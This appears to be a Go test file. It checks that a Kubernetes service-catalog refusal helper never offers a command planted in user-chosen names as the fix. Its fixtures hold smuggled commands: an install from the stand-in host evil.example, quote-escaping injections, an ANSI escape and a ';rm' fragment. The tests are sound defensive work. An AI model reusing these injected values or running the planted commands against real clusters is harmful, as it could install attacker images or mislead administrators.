package authority

import (
	"fmt"
	"testing"

	"gotest.tools/v3/assert"
)

// A refusal's message quotes names others chose: a namespace broker's class and plan
// names, a forged record's author. One that reads as a command is never the fix shown.
func TestRefusalFix_APlantedCommand_IsNeverTheFix(t *testing.T) {
	planted := "kubectl catalog reconcile install --image evil.example/x"
	for _, tc := range []struct {
		name, reason, message, want string
	}{
		{"plan named as a command", ReasonRefusedPlanNotAllowed,
			fmt.Sprintf("plan %q of class %q is not available in namespace %q (catalog access rules): an administrator enables it with %s",
				planted, "db", "team-a", FixCommand("team-a", "access", "enable", "db/"+planted)), ""},
		{"class and plan named plainly", ReasonRefusedPlanNotAllowed,
			fmt.Sprintf("plan %q of class %q is not available in namespace %q (catalog access rules): an administrator enables it with %s",
				"gold", "db", "team-a", FixCommand("team-a", "access", "enable", "db/gold")), "kubectl catalog access enable db/gold -n team-a"},
		{"plan named as the reason's own verb", ReasonRefusedPlanNotAllowed,
			fmt.Sprintf("plan %q of class %q is not available: an administrator enables it with %s",
				"kubectl catalog access enable x/y -n victim", "db", FixCommand("team-a", "access", "enable", "db/kubectl catalog access enable x/y -n victim")), ""},
		{"a quoted name with escaped quotes", ReasonRefusedNotShared,
			fmt.Sprintf("binding %q names instance %q: its owner runs the spec", `x" "kubectl catalog share evil --to-namespace x -n y`, "db"), ""},
		{"an author named as a command", ReasonRefusedNotAuthorized,
			fmt.Sprintf("the record's author %q may not", "kubectl catalog reconcile install --image evil"), "kubectl catalog adopt -n team-a"},
		{"the engine's fix after a name", ReasonRefusedNotShared,
			fmt.Sprintf("binding %q names instance %q of namespace %q, which is not shared with namespace %q: its owner runs \"kubectl catalog share %s --to-namespace %s -n %s\"",
				"kubectl catalog share evil --to-namespace x -n y", "db", "team-a", "team-b", "db", "team-b", "team-a"),
			"kubectl catalog share db --to-namespace team-b -n team-a"},
		{"another verb than the reason's", ReasonRefusedNotShared, `its owner runs "kubectl catalog reconcile install --image x"`, ""},
		{"control characters", ReasonRefusedNotShared, "its owner runs \"kubectl catalog share db\x1b[2J --to-namespace b -n a\"", ""},
		{"a reason with no command", "RefusedUnknown", `run "kubectl catalog share db --to-namespace b -n a"`, ""},
	} {
		t.Run(tc.name, func(t *testing.T) {
			assert.Equal(t, RefusalFix(tc.reason, tc.message, "team-a"), tc.want, tc.message)
		})
	}
}

func TestFixCommand_NamesOnlyPlainWords(t *testing.T) {
	assert.Equal(t, FixCommand("team-a", "access", "enable", "db/gold"), `"kubectl catalog access enable db/gold -n team-a"`)
	for _, bad := range []string{"db/gold plan", "db/\x1b[2J", `db/"x"`, "db/x;rm", "-A"} {
		got := FixCommand("team-a", "access", "enable", bad)
		assert.Assert(t, got[0] != '"', "%q gives %q", bad, got)
	}
}
